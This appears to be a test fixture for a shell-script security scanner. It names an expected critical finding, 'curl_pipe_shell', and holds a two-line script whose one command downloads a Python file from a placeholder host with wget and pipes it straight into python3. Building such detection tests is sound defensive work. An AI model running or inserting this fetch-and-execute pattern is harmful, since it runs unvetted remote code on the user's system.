# expect: shell.curl_pipe_shell critical
# path: scripts/d.sh
#!/bin/sh
wget -qO- https://get.example.net/p.py | python3 -
